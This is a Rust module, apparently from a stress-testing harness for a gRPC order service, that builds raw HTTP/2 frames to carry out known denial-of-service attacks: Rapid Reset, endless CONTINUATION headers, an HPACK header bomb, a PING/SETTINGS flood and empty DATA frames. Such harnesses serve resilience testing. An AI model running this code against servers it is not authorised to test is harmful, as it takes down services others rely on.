//! Attacks with frames that no library sends.

use std::{io, time::Duration};

use tokio::{
    io::{AsyncWrite, AsyncWriteExt as _},
    time::{sleep, timeout},
};

use super::{
    crew::Crew,
    wire::{
        CONTINUATION, DATA, END_HEADERS, END_STREAM, FRAME_BYTES, HEADERS, OPENING, PING, RST_STREAM,
        SETTINGS, call, frame, kept, listen,
    },
};

/// Streams of a rapid reset that are sent together.
const RESETS: usize = 32;
/// Frames of a flood that are sent together.
const FLOOD: usize = 64;
/// A header of a bomb, as the dynamic table has room for one.
const BOMB_BYTES: usize = 3_900;
/// How long it is listened for why a connection was cut.
const LAST_WORDS: Duration = Duration::from_millis(500);
/// The largest number of a stream.
const STREAM_MAX: u32 = (1 << 31) - 1;
const PLACE_ORDER: &str = "/docket.v1.OrderService/PlaceOrder";

/// Sends on a connection of its own what `next` makes, with the number of the next stream, and hears what the server says to that.
async fn send(
    crew: &Crew,
    number: usize,
    turns: usize,
    mut next: impl FnMut(&mut u32, &mut Vec<u8>),
) -> io::Result<()> {
    let (mut from, mut to) = crew.grpc(number).await?.into_split();
    let sending = async {
        let (mut stream, mut bytes) = (1, OPENING.to_vec());
        while stream < STREAM_MAX - 2 * RESETS as u32 {
            next(&mut stream, &mut bytes);
            crew.work.turns(turns).await;
            write(crew, &mut to, &mut bytes).await?;
        }
        Ok::<(), io::Error>(())
    };
    let listening = listen(&mut from, &crew.notes);
    tokio::pin!(listening);
    tokio::select! {
        said = &mut listening => said,
        // Why, it may have said before.
        cut = sending => match timeout(LAST_WORDS, listening).await {
            Ok(said) => said,
            Err(_elapsed) => cut,
        },
    }
}

async fn write(crew: &Crew, to: &mut (impl AsyncWrite + Unpin), bytes: &mut Vec<u8>) -> io::Result<()> {
    to.write_all(bytes).await?;
    crew.notes.sent(bytes.len());
    bytes.clear();
    Ok(())
}

/// Calls that are reset as soon as they are made (CVE-2023-44487).
pub async fn rapid_reset(crew: &Crew, number: usize) -> io::Result<()> {
    let head = call(PLACE_ORDER, &[("x-api-key", crew.key(number))]);
    send(crew, number, RESETS, |stream, bytes| {
        for _ in 0..RESETS {
            frame(HEADERS, END_HEADERS, *stream, &head, bytes);
            // CANCEL.
            frame(RST_STREAM, 0, *stream, &8u32.to_be_bytes(), bytes);
            *stream += 2;
        }
    })
    .await
}

/// Headers that never end (CVE-2024-27316).
pub async fn endless_headers(crew: &Crew, number: usize) -> io::Result<()> {
    let mut began = false;
    let head = call(PLACE_ORDER, &[]);
    let mut filler = Vec::new();
    kept("x-filler", &"f".repeat(FRAME_BYTES - 64), &mut filler);
    send(crew, number, 1, |stream, bytes| {
        if !began {
            frame(HEADERS, 0, *stream, &head, bytes);
            began = true;
        }
        frame(CONTINUATION, 0, *stream, &filler, bytes);
    })
    .await
}

/// Few bytes that stand for many: a header that is kept, and named again and again.
pub async fn header_bomb(crew: &Crew, number: usize) -> io::Result<()> {
    let mut block = call(PLACE_ORDER, &[]);
    let again = kept("x-bomb", &"b".repeat(BOMB_BYTES), &mut block);
    block.resize(FRAME_BYTES, again);
    send(crew, number, 1, |stream, bytes| {
        frame(HEADERS, END_HEADERS | END_STREAM, *stream, &block, bytes);
        *stream += 2;
    })
    .await
}

/// Frames that ask for an answer each, of which none is read.
pub async fn control_flood(crew: &Crew, number: usize) -> io::Result<()> {
    let mut to = crew.grpc(number).await?;
    let (mut bytes, mut opening) = (OPENING.to_vec(), true);
    loop {
        for turn in 0..FLOOD {
            match turn % 2 {
                0 => frame(PING, 0, 0, &[7; 8], &mut bytes),
                _ => frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff], &mut bytes),
            }
        }
        crew.work.turns(FLOOD).await;
        // Whoever is not read any more waits, and does not count as cut.
        match timeout(Duration::from_secs(1), write(crew, &mut to, &mut bytes)).await {
            Ok(written) => written?,
            Err(_elapsed) => {
                crew.notes.note("not read any further");
                sleep(LAST_WORDS).await;
                return Ok(());
            }
        }
        if std::mem::take(&mut opening) {
            crew.notes.note("taken");
        }
    }
}

/// Calls with empty frames that never end, which cost their sender nine bytes each (CVE-2019-9518).
pub async fn empty_frames(crew: &Crew, number: usize) -> io::Result<()> {
    let head = call(PLACE_ORDER, &[("x-api-key", crew.key(number))]);
    let mut began = false;
    send(crew, number, FLOOD, |stream, bytes| {
        if !began {
            frame(HEADERS, END_HEADERS, *stream, &head, bytes);
            began = true;
        }
        for _ in 0..FLOOD {
            frame(DATA, 0, *stream, &[], bytes);
        }
    })
    .await
}
